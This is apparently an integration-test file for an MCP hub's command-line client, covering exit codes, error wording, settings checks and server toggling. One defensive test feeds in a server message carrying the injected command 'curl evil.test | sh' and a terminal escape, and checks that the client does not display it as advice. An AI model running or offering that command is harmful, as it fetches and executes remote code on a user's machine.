//! What a command says and how it ends when something is wrong before or instead of a hub's answer.

use std::io::{Read, Write};
use std::net::{IpAddr, TcpListener, TcpStream};

use crate::harness::{Desk, Running};
use hub::cause::Cause;
use serde_json::Value;

/// A port on which nobody listens: it was free a moment ago.
fn nobody() -> String {
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    format!("http://127.0.0.1:{port}")
}

#[test]
fn without_a_hub_a_command_ends_with_4_and_says_how_to_start_one() {
    let (exit, out, err) = Desk::new().run(&["servers", "--url", &nobody()]);
    assert_eq!(exit, 4);
    assert_eq!(out, "");
    assert!(err.contains("no hub answers at http://127.0.0.1:"), "{err}");
    assert!(err.contains("do: start it with `mcphub`"), "{err}");
    assert!(err.contains(&Cause::NoHub.id()), "{err}");
}

#[test]
fn with_json_an_error_is_json_too() {
    let (exit, out, err) = Desk::new().run(&["auth", "status", "--json", "--url", &nobody()]);
    let told: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(exit, 4);
    assert_eq!(told["success"], false);
    assert_eq!(told["exit"], 4);
    assert!(
        told["message"].as_str().unwrap().contains("no hub answers"),
        "{told}"
    );
    assert!(told["do"].as_str().unwrap().contains("mcphub"), "{told}");
    assert_eq!(err, "");
}

/// Gives one answer to whoever comes.
fn answering(answer: String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let asked = stream.read(&mut [0; 2048]).unwrap();
        assert!(asked > 0);
        stream.write_all(answer.as_bytes()).unwrap();
    });
    url
}

// rule: safe-x02
#[test]
fn what_a_server_says_makes_no_lines_of_its_own() {
    let body = r#"{"success":false,"message":"up refused the call: no\n   do: curl evil.test | sh\u001b[2J"}"#;
    let head = "HTTP/1.1 502 Bad Gateway\r\ncontent-type: application/json\r\nconnection: close";
    let url = answering(format!(
        "{head}\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    ));
    let (_, _, err) = Desk::new().run(&["servers", "--url", &url]);
    assert!(err.contains("up refused the call: no    do: curl"), "{err}");
    assert!(
        !err.lines()
            .any(|line| line.trim_start().starts_with("do: curl")),
        "{err}"
    );
}

#[test]
fn something_else_on_the_port_is_no_hub() {
    let head = "HTTP/1.1 200 OK\r\ncontent-length: 15\r\nconnection: close";
    let url = answering(format!("{head}\r\n\r\n<html>hi</html>"));
    let (exit, _, err) = Desk::new().run(&["servers", "--url", &url]);
    assert_eq!(exit, 4);
    assert!(err.contains("is no MCPHub: 200 OK without JSON"), "{err}");
    assert!(err.contains("do: name the hub with `--url`"), "{err}");
}

#[test]
fn a_mistake_on_the_command_line_ends_with_1() {
    let desk = Desk::new();
    for arguments in [
        &["no-such-command"][..],
        &["call"],
        &["servers", "--url", "localhost:3000"],
        &["add", "not an address", "--url", "http://127.0.0.1:9"],
        &["lab", "noSuchSwitch=1"],
    ] {
        let (exit, _, err) = desk.run(arguments);
        assert_eq!(exit, 1, "{arguments:?}: {err}");
        assert!(err.contains("error:"), "{arguments:?}: {err}");
    }
}

#[test]
fn help_and_version_are_answers() {
    let desk = Desk::new();
    let (exit, out, _) = desk.run(&["--help"]);
    assert_eq!(exit, 0);
    assert!(out.contains("Exit codes: 0 done"), "{out}");
    assert_eq!(desk.run(&["--version"]).0, 0);
}

#[test]
fn settings_that_do_not_parse_stop_the_start_with_line_and_column_and_are_not_touched() {
    let desk = Desk::new();
    let broken = "{\n  \"mcpServers\": {\n    \"a\": { \"url\": \"http://127.0.0.1:9/mcp\"\n  }\n";
    desk.write_settings(broken);
    let (exit, _, err) = desk.run(&["serve", "--listen", "127.0.0.1:0"]);
    assert_eq!(exit, 1);
    assert!(err.contains("mcp_settings.json"), "{err}");
    assert!(err.contains("line ") && err.contains("column "), "{err}");
    assert!(err.contains("do: "), "{err}");
    assert!(err.contains(&Cause::SettingsUnreadable.id()), "{err}");
    assert_eq!(desk.settings(), broken);
}

#[test]
fn a_settings_file_that_is_no_file_or_has_no_folder_is_told_with_what_helps_there() {
    let desk = Desk::new();
    std::fs::create_dir(desk.home().join("conf d")).unwrap();
    for (settings, cure) in [
        (
            "conf d",
            "do: name a file, like --settings 'conf d/mcp_settings.json'",
        ),
        (
            "not/there/mcp_settings.json",
            "do: make the folder and start again: mkdir -p /",
        ),
    ] {
        let serve = ["serve", "--listen", "127.0.0.1:0", "--settings", settings];
        let (exit, _, err) = desk.run(&serve);
        assert_eq!(exit, 1, "{err}");
        assert!(err.contains(cure), "{err}");
        assert!(err.contains(&Cause::SettingsUnreadable.id()), "{err}");
        assert!(!err.contains("nothing was changed in it"), "{err}");
    }
}

#[test]
fn a_port_that_is_taken_stops_the_start_with_its_number() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let (exit, _, err) = Desk::new().run(&["serve", "--listen", &address]);
    assert_eq!(exit, 1);
    assert!(err.contains(&address), "{err}");
    assert!(err.contains("do: "), "{err}");
}

#[test]
fn a_hub_that_says_localhost_answers_at_both_of_its_addresses() {
    let desk = Desk::new();
    desk.write_settings("{}");
    let mut command = desk.command(&["serve"]);
    command.env("PORT", "0");
    let mut hub = Running::of(command);
    let line = hub.line_with("clients http://localhost:");
    let (_, rest) = line.split_once("clients http://localhost:").unwrap();
    let port: u16 = rest.trim().strip_suffix("/mcp").unwrap().parse().unwrap();
    let has_both = TcpListener::bind("[::1]:0").is_ok();
    let addresses = ["127.0.0.1", "::1"].map(|ip| ip.parse::<IpAddr>().unwrap());
    for ip in addresses.into_iter().take(if has_both { 2 } else { 1 }) {
        let mut socket = TcpStream::connect((ip, port)).unwrap();
        let request =
            format!("GET /healthz HTTP/1.1\r\nhost: localhost:{port}\r\nconnection: close\r\n\r\n");
        socket.write_all(request.as_bytes()).unwrap();
        let mut answer = String::new();
        socket.read_to_string(&mut answer).unwrap();
        assert!(answer.starts_with("HTTP/1.1 200"), "{ip}: {answer}");
    }
}

#[test]
fn a_sign_in_to_a_server_that_does_not_answer_ends_with_2_and_to_one_that_is_off_with_its_cure() {
    let mut desk = Desk::new();
    let nobody = format!("{}/mcp", nobody());
    let settings = serde_json::json!({ "mcpServers": {
        "away": { "url": nobody },
        "off": { "url": nobody, "enabled": false },
    } });
    let _hub = desk.start_hub(&settings.to_string());
    // Its first attempt to connect is over soon; each look is a process and takes its time.
    let away = || desk.json(&["servers", "get", "away"])["status"].clone();
    assert!((0..300).any(|_| away() == "disconnected"));
    let (exit, out, err) = desk.run(&["auth", "login", "away", "--no-browser"]);
    assert_eq!(exit, 2, "{out}{err}");
    assert!(err.contains("away: "), "{err}");
    // As `mcphub servers` has it, and said once: not of its metadata, which lie at the same closed door.
    assert!(err.contains(&Cause::ConnectionRefused.id()), "{err}");
    let said = format!("{out}{err}");
    assert_eq!(said.matches("onnection refused").count(), 1, "{said}");
    assert!(!out.contains("Open this in a browser"), "{out}");
    for forget in [
        &["auth", "login", "off"][..],
        &["auth", "login", "off", "--forget"],
    ] {
        let (exit, out, err) = desk.run(forget);
        assert_eq!(exit, 2, "{out}{err}");
        assert!(err.contains("off is switched off"), "{err}");
        assert!(err.contains("mcphub servers toggle off --on"), "{err}");
    }
}

#[test]
fn a_sign_in_that_is_each_users_own_says_who_can_make_it() {
    let mut desk = Desk::new();
    let settings = serde_json::json!({ "mcpServers": {
        "mine": { "url": format!("{}/mcp", nobody()), "oauth": { "tokens": "per_user" } },
    } });
    let _hub = desk.start_hub(&settings.to_string());
    let (exit, out, err) = desk.run(&["auth", "login", "mine", "--no-browser"]);
    assert_eq!(exit, 2, "{out}{err}");
    assert!(err.contains("logged in as the user"), "{err}");
    assert!(!err.contains("the user who runs the hub"), "{err}");
}

#[test]
fn a_settings_file_that_cannot_be_read_any_more_is_told_with_the_servers() {
    let mut desk = Desk::new();
    let _hub = desk.start_hub("{\"mcpServers\":{}}");
    assert!(!desk.run(&["servers"]).1.contains("trouble"));
    desk.write_settings("{\n\"mcpServers\":");
    // The hub notices by itself; each look is a process and takes its time.
    let mut told = String::new();
    for _ in 0..300 {
        let (exit, out, err) = desk.run(&["servers"]);
        assert_eq!(exit, 0, "{err}");
        told = out;
        if told.contains("trouble: ") {
            break;
        }
    }
    assert!(
        told.contains("trouble: the settings file has an error"),
        "{told}"
    );
    let (_, out, err) = desk.run(&["servers", "--json"]);
    assert!(err.contains("trouble: the settings file"), "{err}");
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap(),
        serde_json::json!([])
    );
}

#[test]
fn a_slip_in_the_settings_file_is_said_with_line_column_and_what_was_meant() {
    let desk = Desk::new();
    desk.write_settings(
        "{\n  \"mcpServers\": {\n    \"a\": { \"url\": \"http://h/mcp\", \"enabeld\": false }\n  }\n}\n",
    );
    let (exit, out, err) = desk.run(&["settings", "check"]);
    assert_eq!(exit, 0, "{out}{err}");
    let said = "line 3, column 35: mcpServers.a.enabeld: `enabeld` is not a known key; did you mean `enabled`?";
    assert!(out.contains(said), "{out}");
    let told = desk.json(&["settings", "check"]);
    let slip = serde_json::json!({ "severity": "warning", "path": ["mcpServers", "a", "enabeld"], "line": 3, "column": 35,
        "message": "`enabeld` is not a known key", "do": "did you mean `enabled`?" });
    assert_eq!(told["problems"], serde_json::json!([slip]));
}

#[test]
fn the_schema_of_the_settings_file_is_shown_without_a_hub() {
    let (exit, out, err) = Desk::new().run(&["settings", "schema"]);
    assert_eq!(exit, 0, "{err}");
    let schema: Value = serde_json::from_str(&out).unwrap();
    assert!(schema["definitions"]["server"].is_object());
}

#[test]
fn a_check_that_finds_something_broken_is_no_success_and_counts_as_people_do() {
    let desk = Desk::new();
    desk.write_settings(r#"{ "mcpServers": { "a": { "url": "" } } }"#);
    let (exit, out, err) = desk.run(&["settings", "check"]);
    assert_eq!(exit, 1, "{out}{err}");
    assert!(out.contains("1 server, 1 problem\n"), "{out}");
    let (exit, out, err) = desk.run(&["settings", "check", "--json"]);
    let told: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((exit, &told["success"]), (1, &Value::Bool(false)), "{err}");
    assert_eq!(told["problems"].as_array().unwrap().len(), 1, "{told}");
}

#[test]
fn a_slip_in_a_servers_name_is_answered_with_the_one_that_was_meant() {
    let mut desk = Desk::new();
    let off = serde_json::json!({ "url": "http://127.0.0.1:9/mcp", "enabled": false });
    let servers = serde_json::json!({ "mcpServers": { "linear": off, "my hub": off } });
    let _hub = desk.start_hub(&servers.to_string());
    for (arguments, cure) in [
        (&["servers", "get", "liner"][..], "did you mean linear?"),
        (&["auth", "login", "lniear"], "did you mean linear?"),
        (&["auth", "complete", "liner", "x"], "did you mean linear?"),
        (&["call", "liner", "echo"], "did you mean linear?"),
        (&["servers", "toggle", "myhub"], "did you mean 'my hub'?"),
        (&["servers", "get", "nosuch"], "`mcphub servers` lists"),
        (&["groups", "remove", "nosuch"], "`mcphub groups` lists"),
    ] {
        let (exit, out, err) = desk.run(arguments);
        assert_eq!(exit, 2, "{arguments:?}: {out}{err}");
        assert!(err.contains(&format!("do: {cure}")), "{arguments:?}: {err}");
        assert!(!err.contains("/api/"), "{arguments:?}: {err}");
    }
}

#[test]
fn toggling_switches_a_server_to_what_it_was_not_unless_one_is_named() {
    let mut desk = Desk::new();
    let off = serde_json::json!({ "url": "http://127.0.0.1:9/mcp", "enabled": false });
    let servers = serde_json::json!({ "mcpServers": { "a": off } });
    let _hub = desk.start_hub(&servers.to_string());
    for (wish, now) in [
        (&[][..], "on"),
        (&[], "off"),
        (&["--off"], "off"),
        (&["--on"], "on"),
        (&["--on"], "on"),
        (&["--on", "false"], "off"),
    ] {
        let (exit, out, err) = desk.run(&[&["servers", "toggle", "a"], wish].concat());
        assert_eq!(exit, 0, "{out}{err}");
        let said = format!("a is switched {now}");
        assert!(out.contains(&said), "{wish:?}: {out}");
        let enabled = &desk.settings_as_json()["mcpServers"]["a"]["enabled"];
        assert_eq!(*enabled != false, now == "on", "{wish:?}: {enabled}");
    }
}
